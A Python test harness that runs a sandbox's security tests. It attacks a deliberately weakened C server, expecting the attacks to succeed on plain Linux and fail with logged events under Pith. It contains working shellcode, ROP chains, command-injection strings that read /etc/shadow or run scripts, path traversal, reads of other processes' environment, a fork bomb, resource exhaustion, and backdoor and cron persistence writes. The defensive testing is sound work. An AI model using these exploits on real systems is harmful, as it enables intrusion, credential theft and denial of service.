#!/usr/bin/env python3
"""attacks.py BUILD - the attacks of a book against tests/attacks/target.c, over the network, on Linux and on Pith; one table.

Linux is this host's kernel with what a container has by default: its own mounts and processes, a root of its own that root may write, with a
shell (busybox), accounts and a neighbour process that holds a secret. Pith is `pith run` with a manifest that says what the server needs.
The binaries, the requests and the attacker's next step are the same. An attack reaches its goal when the goal's evidence comes back, never
because nothing was seen. On Pith each must fail and leave an event; "ok attacks/NAME" says so, and that the table of docs/security.md shows
what happened ("attacks.py BUILD table" prints it). attacks.py BUILD NAME,NAME: only these.
"""
import base64, json, os, re, shutil, signal, socket, struct, subprocess, sys, tempfile, threading, time

build = os.path.abspath(sys.argv[1])
source = os.path.join(os.path.dirname(os.path.abspath(__file__)), "target.c")
pith = os.path.join(build, "pith")
top = tempfile.mkdtemp()
os.chmod(top, 0o755)
CC = ["cc", "-std=gnu17", "-O1", "-w", "-static", "-no-pie", "-fno-stack-protector", "-U_FORTIFY_SOURCE", "-fcf-protection=none"]
for name, flags in (("target", []), ("target-x", ["-z", "execstack"])):
    subprocess.run(CC + flags + ["-o", os.path.join(top, name), source], check=True)
helper = os.path.join(top, "helper")
with open(helper + ".c", "w") as f:
    f.write('#include <unistd.h>\nint main(void) { return write(1, "OW2NED\\n", 7) != 7; }\n')
subprocess.run(["cc", "-static", "-o", helper, helper + ".c"], check=True)


def symbols(path):
    out = subprocess.run(["nm", path], check=True, capture_output=True, text=True).stdout
    return {f[2]: int(f[0], 16) for f in (line.split() for line in out.splitlines()) if len(f) == 3}


# A private key as it stands in a file.
SECRET = base64.b64encode(os.urandom(1200)).decode()
KEY = "-----BEGIN PRIVATE KEY-----\n%s\n-----END PRIVATE KEY-----\n" % "\n".join(SECRET[i:i + 64] for i in range(0, len(SECRET), 64))
SYM = {n: symbols(os.path.join(top, n)) for n in ("target", "target-x")}


def text_at(name, text):
    """Address of bytes in a program file that is mapped where it was linked."""
    path = os.path.join(top, name)
    data = open(path, "rb").read()
    at = data.index(text)
    for line in subprocess.run(["readelf", "-lW", path], capture_output=True, text=True).stdout.splitlines():
        f = line.split()
        if f[:1] == ["LOAD"] and int(f[1], 16) <= at < int(f[1], 16) + int(f[4], 16):
            return int(f[2], 16) + at - int(f[1], 16)


def free_port():
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


# ---- The internal network: a service that only neighbours should reach ----

internal = socket.socket()
internal.bind(("127.0.0.1", 0))
internal.listen(8)


def serve_internal():
    while True:
        try:
            c, _ = internal.accept()
            c.sendall(b"INTERNAL-CREDENTIALS\n")
            c.close()
        except OSError:
            return


threading.Thread(target=serve_internal, daemon=True).start()


# ---- Where the target runs ----

class Place:
    def connect(self):
        end = time.monotonic() + 40
        while time.monotonic() < end:
            try:
                self.s = socket.create_connection(("127.0.0.1", self.port), 20)
                self.s.settimeout(20)
                self.s.sendall(b"WHERE\n")
                self.where = [int(x, 16) for x in self.line().split()]
                return
            except (OSError, ValueError):
                time.sleep(0.2)
        raise RuntimeError("%s: the target does not answer: %s" % (self.name, self.log()[-300:]))

    def line(self):
        got = b""
        while not got.endswith(b"\n"):
            b = self.s.recv(1)
            if not b:
                raise OSError("closed")
            got += b
        return got

    def send(self, data):
        self.s.sendall(data)

    def until(self, mark=b"\n", seconds=15):
        """What comes, up to mark, the end of the connection or the time."""
        got, self_end = b"", time.monotonic() + seconds
        while mark not in got and time.monotonic() < self_end:
            self.s.settimeout(max(0.1, self_end - time.monotonic()))
            try:
                b = self.s.recv(65536)
            except OSError:
                break
            if not b:
                break
            got += b
        return got

    def shell(self):
        """Is there a shell behind the connection?"""
        try:
            self.send(b"echo OW$((1+1))NED; exit\n")
        except OSError:
            return False
        return b"OW2NED" in self.until(b"OW2NED", 8)


class Linux(Place):
    name = "Linux"
    inside_port = property(lambda self: self.port)
    internal_address = "127.0.0.1"

    def __init__(self, program):
        self.root = os.path.join(top, "root")
        if not os.path.isdir(self.root):
            for d in ("bin", "etc/cron.d", "srv/www/up", "tmp", "proc", "dev", "usr/bin"):
                os.makedirs(os.path.join(self.root, d))
            shutil.copy(shutil.which("busybox"), self.root + "/bin/busybox")
            for n in ("sh", "echo", "id", "cat", "sleep", "ps", "env", "wc", "grep", "ls"):
                os.symlink("busybox", self.root + "/bin/" + n)
            open(self.root + "/etc/shadow", "w").write("root:$6$SHADOW$x:19000:0:99999:7:::\n")
            open(self.root + "/srv/www/index", "w").write("welcome\n")
            open(self.root + "/srv/key", "w").write(KEY)
            open(self.root + "/dev/null", "w").close()
        shutil.copy(os.path.join(top, program), self.root + "/target")
        self.port = free_port()
        self.out = open(os.path.join(top, "linux.log"), "w+b")
        script = ("mount -t proc proc %(r)s/proc; mount --bind /dev/null %(r)s/dev/null; ulimit -n $(ulimit -Hn); "
                  "TOKEN=NEIGHBOURS-TOKEN chroot %(r)s /bin/sleep 300 & cd %(r)s && exec chroot %(r)s /target %(p)d") % {"r": self.root, "p": self.port}
        self.p = subprocess.Popen(["timeout", "-k", "2", "120", "unshare", "--mount", "--pid", "--ipc", "--uts", "--fork", "--kill-child", "sh", "-c", script],
                                  stdin=subprocess.DEVNULL, stdout=self.out, stderr=self.out)
        self.connect()

    def log(self):
        return open(self.out.name, errors="replace").read()

    def end(self):
        self.s.close()
        self.p.terminate()
        self.p.wait()
        return []


class Pith(Place):
    name = "Pith"
    internal_address = "10.0.2.2"

    def __init__(self, program):
        www = os.path.join(top, "www")
        if not os.path.isdir(www):
            os.makedirs(www)
            os.makedirs(os.path.join(top, "up"))
            open(www + "/index", "w").write("welcome\n")
            os.symlink("/tmp/up", www + "/up")
            open(os.path.join(top, "up", "readme"), "w").close()
            open(os.path.join(top, "key"), "w").write(KEY)
        self.port = free_port()
        self.events = os.path.join(top, "events")
        with open(os.path.join(top, "pith.yaml"), "w") as f:
            f.write("program: %s\nargs: [\"80\"]\nports: [\"127.0.0.1:%d:80\"]\nmemory: 64M\nadd: [\"www:/srv/www\", \"up:/tmp/up\", \"key:/srv/key\"]\n"
                    "files: { read: [/srv/www/, /tmp/up/, /target, /srv/key], write: [/tmp/up/, /dev/null] }\nlisten: [tcp/80]\nconnect: []\n"
                    "canary: [/etc/shadow, /etc/cron.d/, /proc/1/]\nsecret: [/srv/key]\n" % (os.path.join(top, program), self.port))
        if os.path.exists(self.events):
            os.unlink(self.events)
        self.out = open(os.path.join(top, "pith.log"), "w+b")
        self.p = subprocess.Popen(["timeout", "-k", "5", "150", pith, "run", "--accel", "tcg", "-M", "pith.yaml", "--events", self.events], cwd=top,
                                  stdin=subprocess.DEVNULL, stdout=self.out, stderr=self.out)
        self.connect()

    def log(self):
        return open(self.out.name, errors="replace").read()

    def end(self):
        self.s.close()
        if self.p.poll() is None:
            time.sleep(0.3)
            self.p.send_signal(signal.SIGTERM)
        self.p.wait()
        told = []
        for line in open(self.events) if os.path.exists(self.events) else []:
            e = json.loads(line)
            if e["event"] not in told:
                told.append(e["event"])
        return told


# ---- The attacks: name, what it is, binary, function of a place that says whether the goal was reached ----

P64 = lambda *v: b"".join(struct.pack("<Q", x) for x in v)
SHELLCODE = b"".join(b"\xbf\x04\0\0\0\xbe" + bytes([i]) + b"\0\0\0\xb8\x21\0\0\0\x0f\x05" for i in range(3)) + \
    b"\x48\x8d\x3d\x1a\0\0\0\x31\xd2\x52\x57\x48\x89\xe6\xb8\x3b\0\0\0\x0f\x05\xbf\x07\0\0\0\xb8\x3c\0\0\0\x0f\x05/bin/sh\0"
PAD = b"A" * 88                      # do_name: up to its return address


def smash(t, chain):
    data = PAD + chain
    t.send(b"NAME %d\n" % len(data) + data)


def system_injection(t):
    t.send(b"PING 127.0.0.1 >/dev/null 2>&1; id >/srv/www/up/id; echo\n")
    t.until(b"done", 10)
    t.send(b"GET up/id\n")
    return b"uid=" in t.until(b"\n.\n", 5)


def popen_injection(t):
    t.send(b"DIG x 2>/dev/null; cat /etc/shadow\n")
    return b"$6$SHADOW" in t.until(b".\n", 10)


def download_and_run(t):
    t.send(b"PING x 2>/dev/null; printf '#!/bin/sh\\necho OW2NED >/srv/www/up/ran\\n' >/srv/www/up/second; sh /srv/www/up/second\n")
    t.until(b"done", 10)
    t.send(b"GET up/ran\n")
    return b"OW2NED" in t.until(b"\n.\n", 5)


def stack_code(t):
    smash(t, P64(SYM["target-x"]["gadget_rsp"]) + SHELLCODE)
    return t.shell()


def rop_mprotect(t):
    s, page = SYM["target"], t.where[0] & -4096
    smash(t, P64(s["gadget_rdi"], page - 4096, s["gadget_rsi"], 3 * 4096, s["gadget_rdx"], 7, s["mprotect"], s["gadget_rsp"]) + SHELLCODE)
    return t.shell()


def rop_execve(t):
    s, sh = SYM["target"], text_at("target", b"/bin/sh\0")
    dup = b"".join(P64(s["gadget_rdi"], 4, s["gadget_rsi"], n, s["dup2"]) for n in range(2))
    # The list of arguments stands behind the chain, in the server's own buffer at a fixed address.
    buf = next(v for n, v in s.items() if n.startswith("in.") or n == "in")
    chain = dup + P64(s["gadget_rdi"], sh, s["gadget_rsi"], buf + len(PAD) + len(dup) + 7 * 8, s["gadget_rdx"], 0, s["execve"])
    smash(t, chain + P64(sh, 0))
    return t.shell()


def heap_overflow(t):
    data = b"id >/srv/www/up/heap".ljust(64, b"\0") + P64(SYM["target"]["system"])
    t.send(b"NOTE %d\n" % len(data) + data)
    t.until(b"noted", 10)
    t.send(b"GET up/heap\n")
    return b"uid=" in t.until(b"\n.\n", 5)


def traversal(t):
    t.send(b"GET ../../etc/shadow\n")
    return b"$6$SHADOW" in t.until(b"\n.\n", 5)


def neighbour(t):
    """The arbitrary read's next step: what others on the machine hold."""
    for pid in (1, 2, 3, 4, 5, 6, 7, 8):
        t.send(b"GET ../../proc/%d/environ\n" % pid)
        if b"NEIGHBOURS-TOKEN" in t.until(b"\n.\n", 5):
            return True
    return False


def over_read(t):
    """Any 24 bytes of the key are more than chance."""
    t.send(b"ECHO 60000 hello\n")
    got = t.until(b"\n.\n", 5)
    return any(KEY[i:i + 24].encode() in got for i in range(len(KEY) - 24))


def upload_and_start(t):
    data = open(helper, "rb").read()
    t.send(b"PUT plugin %d\n" % len(data) + data)
    if b"stored" not in t.until(b"\n", 20):
        return False
    t.send(b"RUN plugin\n")
    return b"OW2NED" in t.until(b"\n.\n", 8)


def fork_bomb(t):
    t.send(b"DIG x 2>/dev/null; n=0; while [ $n -lt 60 ]; do sleep 20 & n=$((n+1)); done; ps | grep -c 'sleep 20'\n")
    found = re.findall(rb"(\d+)", t.until(b".\n", 20))
    return bool(found) and int(found[-1]) >= 60


def descriptors(t):
    t.send(b"OPEN 3000\n")
    return b"3000 open" in t.until(b"\n", 30)


def memory(t):
    t.send(b"EAT 200\n")
    return b"200 MiB" in t.until(b"\n", 40)


def root_write(t):
    t.send(b"PUT ../../../usr/bin/backdoor 5\nEVIL\n")
    t.until(b"\n", 5)
    t.send(b"GET ../../usr/bin/backdoor\n")
    return b"EVIL" in t.until(b"\n.\n", 5)


def persist(t, again=None):
    t.send(b"PUT kept 5\nEVIL\n")
    t.until(b"\n", 5)
    t.send(b"PUT ../../../etc/cron.d/job 5\nEVIL\n")
    t.until(b"\n", 5)
    return None                     # judged after a restart


def persisted(t):
    t.send(b"GET up/kept\n")
    first = t.until(b"\n.\n", 5)
    t.send(b"GET ../../etc/cron.d/job\n")
    return b"EVIL" in first or b"EVIL" in t.until(b"\n.\n", 5)


def scan(t):
    found = False
    for port in (internal.getsockname()[1],):
        t.send(b"FETCH %s %d\n" % (t.internal_address.encode(), port))
        found = found or b"INTERNAL-CREDENTIALS" in t.until(b".\n", 8)
    return found


ATTACKS = [
    ("system-injection", "a shell by system()", "target", system_injection), ("popen-injection", "a command's output", "target", popen_injection),
    ("second-program", "download and run", "target", download_and_run), ("code-on-stack", "shell code on the stack", "target-x", stack_code),
    ("rop-mprotect", "ROP to mprotect, shell code", "target", rop_mprotect), ("rop-execve", "ROP to execve", "target", rop_execve),
    ("heap-overflow", "pointer to system()", "target", heap_overflow), ("over-read", "the server's own key", "target", over_read),
    ("path-traversal", "accounts read", "target", traversal), ("arbitrary-read", "a neighbour's secret", "target", neighbour),
    ("upload", "a program put and started", "target", upload_and_start), ("fork-bomb", "60 processes", "target", fork_bomb),
    ("descriptors", "3,000 open files", "target", descriptors), ("memory", "200 MiB of the host", "target", memory),
    ("root-write", "a program in /usr/bin", "target", root_write), ("persistence", "a file after a restart", "target", persist),
    ("network-scan", "an internal service", "target", scan),
]


def attempt(place, binary, attack):
    """Did it reach its goal, and what was told."""
    t = place(binary)
    try:
        try:
            reached = attack(t)
        except OSError:
            reached = False
    finally:
        told = t.end()
    if attack is persist:
        t = place(binary)
        try:
            reached = persisted(t)
        finally:
            told += [e for e in t.end() if e not in told]
    return reached, told


def row(name, goal, linux, outcome, told):
    return "| `%s` | %s | %s | %s | %s |" % (name, goal, linux, outcome, ", ".join("`%s`" % e for e in told) or "none")


def judge(name, goal, binary, attack):
    """Why it is not as it must be, or "", and its row of the table."""
    linux = ("reached" if attempt(Linux, binary, attack)[0] else "failed") if with_linux else "not run"
    reached, told = attempt(Pith, binary, attack)
    line = row(name, goal, linux, "reached" if reached else "failed", told)
    if reached or not told:
        return "it reaches its goal" if reached else "no event", line
    if linux == "failed":
        return "it does not even work on Linux", line
    shown = row(name, goal, "reached", "failed", told)
    return "" if shown in documented else "docs/security.md does not show " + shown, line


with_linux = os.geteuid() == 0 and shutil.which("busybox") and \
    subprocess.run(["unshare", "--mount", "--pid", "--fork", "true"], capture_output=True).returncode == 0
documented = open(os.path.join(os.path.dirname(source), "..", "..", "docs", "security.md")).read().splitlines()
only = sys.argv[2].split(",") if len(sys.argv) > 2 and sys.argv[2] != "table" else None
table = sys.argv[2:] == ["table"]
bad = 0
for name, goal, binary, attack in ATTACKS:
    if only and name not in only:
        continue
    why, line = judge(name, goal, binary, attack)
    bad += bool(why)
    print(line if table else "not ok attacks/%s: %s" % (name, why) if why else "ok attacks/%s # %s" % (name, line), flush=True)
if not with_linux:
    print("# Linux was not asked: that takes root, namespaces and busybox-static")
shutil.rmtree(top, ignore_errors=True)
sys.exit(bad > 0 and not table)
